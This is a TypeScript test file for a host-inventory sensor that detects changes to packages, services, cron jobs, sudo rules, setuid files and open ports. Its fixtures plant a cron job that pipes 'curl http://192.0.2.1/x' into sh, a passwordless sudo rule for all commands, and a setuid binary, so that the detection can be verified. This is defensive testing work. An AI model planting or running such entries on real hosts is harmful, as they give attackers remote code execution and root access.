import assert from 'node:assert/strict'
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, test } from 'node:test'
import { type Event, type EventOf, parseEvent } from '@rampart/event'
import fc from 'fast-check'
import type { Sensor, SensorContext } from '../sensor.ts'
import { createHostInventorySensor } from './host-sensor.ts'
import { createLedger } from './ledger.ts'
import { createHostLooker } from './look.ts'
import { cronJobs, documentRoots, dpkgPackages, kernelModules, listeningSocket, sudoRules, unitFacts } from './parse.ts'
import { collectThings, inventoryChanges } from './things.ts'

const base = mkdtempSync(join(tmpdir(), 'inventory-'))
const sensors: Sensor[] = []
after(async () => {
  for (const sensor of sensors) await sensor.stop()
  rmSync(base, { recursive: true, force: true })
})
let number = 0

const files: Record<string, string> = {
  'var/lib/dpkg/status':
    'Package: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.2\n\nPackage: gone\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1\n',
  'etc/systemd/system/shop.service': '[Service]\nUser=shop\nExecStart=/opt/shop/server\n',
  'etc/crontab': 'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n',
  'etc/nginx/sites-enabled/shop': 'server {\n  root /srv/shop/public;\n  location / { }\n}\n',
  'etc/sudoers': 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n',
  'usr/bin/ls': 'x',
}

function setUp(previous?: string) {
  const directory = previous ?? join(base, `${number++}`)
  const put = (path: string, text: string, mode = 0o644) => {
    const full = join(directory, 'root', path)
    mkdirSync(dirname(full), { recursive: true })
    writeFileSync(full, text)
    chmodSync(full, mode)
  }
  if (previous === undefined) for (const [path, text] of Object.entries(files)) put(path, text)
  mkdirSync(join(directory, 'proc/net'), { recursive: true })
  writeFileSync(join(directory, 'proc/modules'), 'ext4 1024 1 - Live 0x0\n')
  writeFileSync(join(directory, 'proc/net/tcp'), 'head\n')
  const events: EventOf<'inventory.changed'>[] = []
  const context = {
    asset: { id: 'web-1', name: 'web-1', kind: 'host' },
    bootId: 'boot',
    emit: (event: Event) => event.type === 'inventory.changed' && events.push(event),
    report() {},
    stateDirectory: join(directory, 'state'),
    policy: { watches: [], hashWaitMs: 0, hashLimitBytes: 0, ringBytes: 65_536 },
  } satisfies SensorContext
  const ledger = createLedger(join(directory, 'state/host-inventory.json'))
  const sensor = createHostInventorySensor(context, ledger, {
    root: join(directory, 'root'),
    proc: join(directory, 'proc'),
    settleMs: 20,
    leastMs: 20,
    intervalMs: 100,
  })
  sensors.push(sensor)
  /** Started, and its first look done. */
  const begin = async () => {
    const looked = new Promise<void>((resolve) => ledger.onLook(resolve))
    await sensor.start()
    assert.equal(sensor.health().state, 'running', 'before its first look ends, too')
    await looked
  }
  return { directory, put, events, sensor, ledger, begin }
}

async function until(done: () => boolean) {
  const end = Date.now() + 8000
  while (!done()) {
    assert.ok(Date.now() < end, 'it did not happen in time')
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
}

test('the first look gives no events; what changes gives one each, also over a restart', async () => {
  const first = setUp()
  await first.begin()
  assert.equal(first.events.length, 0)
  const known = first.sensor.inventory()
  assert.deepEqual(Object.keys(known.package ?? {}), ['nginx:amd64'])
  assert.deepEqual(
    { ...known['web-root'] },
    {
      '/srv/shop/public': { server: 'nginx', configuration: '/etc/nginx/sites-enabled/shop' },
    },
  )
  assert.equal(known.unit?.['shop.service']?.command, '/opt/shop/server')
  first.put('etc/cron.d/new', '*/5 * * * * www-data curl http://192.0.2.1/x | sh\n')
  await until(() => first.events.length === 1)
  const [job] = first.events
  assert.deepEqual(
    [job?.kind, job?.operation, job?.after?.user, job?.after?.command, job?.duringPackageChange],
    ['job', 'added', 'www-data', 'curl http://192.0.2.1/x | sh', undefined],
  )
  await first.sensor.stop()

  first.put('usr/bin/ls', 'x', 0o4755)
  first.put('etc/systemd/system/shop.service', '[Service]\nExecStart=/tmp/x\n')
  first.put('etc/sudoers.d/eve', 'eve ALL=(ALL) NOPASSWD: ALL\n')
  const second = setUp(first.directory)
  await second.begin()
  assert.deepEqual(
    second.events.map((event) => [event.kind, event.operation, event.name]),
    [
      ['unit', 'changed', 'shop.service'],
      ['privileged-file', 'added', '/usr/bin/ls'],
      ['sudo-rule', 'added', '/etc/sudoers.d/eve: eve ALL=(ALL) NOPASSWD: ALL'],
    ],
  )
  assert.ok(second.events.every((event) => parseEvent(event).ok))
  await second.sensor.stop()
})

test('what comes with a package says so', async () => {
  const { events, put, sensor, begin } = setUp()
  await begin()
  put('lib/systemd/system/redis.service', '[Service]\nExecStart=/usr/bin/redis-server\n')
  put(
    'var/lib/dpkg/status',
    `${files['var/lib/dpkg/status']}\nPackage: redis\nStatus: install ok installed\nArchitecture: amd64\nVersion: 7\n`,
  )
  await until(() => events.some((event) => event.kind === 'package'))
  assert.ok(events.filter((event) => event.kind === 'package').every((event) => event.duringPackageChange))
  await sensor.stop()
})

test('a port that this very host has open is found with its program', async () => {
  const server = createServer().listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  const found = (await createHostLooker().look()).port?.things[`tcp 127.0.0.1:${port}`]
  server.close()
  const userId = process.getuid?.() ?? 0
  const holder = { program: process.execPath, userId, everywhere: false }
  assert.deepEqual(found, { protocol: 'tcp', address: '127.0.0.1', port, ...holder })
})

test('a kind that could not be read makes no difference, and differences are bounded', () => {
  const many = collectThings(Array.from({ length: 600 }, (_, at) => [`p${at}`, { version: '1' }] as const)).things
  assert.deepEqual(inventoryChanges({ package: many }, { port: {} }, 0, false), { drafts: [], left: 0 })
  const { drafts, left } = inventoryChanges({ package: {} }, { package: many }, 0, false)
  assert.deepEqual([drafts.length, left], [500, 100])
})

test('hostile files give valid events or none', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(
        fc.constantFrom(
          '* * * * * ',
          'root ',
          'ExecStart=',
          '\n',
          ' root /x;',
          'Package: ',
          'Status: a installed\n',
          '__proto__',
          ':',
          '0A ',
          '00000000:0016 ',
          'NOPASSWD',
          '\\\n',
        ),
      )
      .map((parts) => parts.join('')),
  )
  fc.assert(
    fc.property(text, (input) => {
      const rows = [
        ...dpkgPackages(input),
        ...cronJobs(input, '/etc/crontab', true),
        ...cronJobs(input, '/x', false, 'eve'),
        ...kernelModules(input),
        ...documentRoots(input, 'nginx', '/x'),
        ...documentRoots(input, 'apache', '/x'),
        ...documentRoots(input, 'caddy', '/x'),
        ...sudoRules(input, '/x'),
        ['u', unitFacts(input)] as const,
      ]
      listeningSocket(input, 'tcp')
      for (const draft of inventoryChanges({ job: {} }, { job: collectThings(rows).things }, 1, false).drafts) {
        const asset = { id: 'a', name: 'a', kind: 'host' }
        const parsed = parseEvent({ schema: 1, id: 'a/b/1', asset, sensor: 'inventory.host', ...draft })
        assert.deepEqual(parsed.ok ? undefined : parsed.issue, undefined)
      }
    }),
    { numRuns: Number(process.env.FUZZ_RUNS ?? 300) },
  )
})
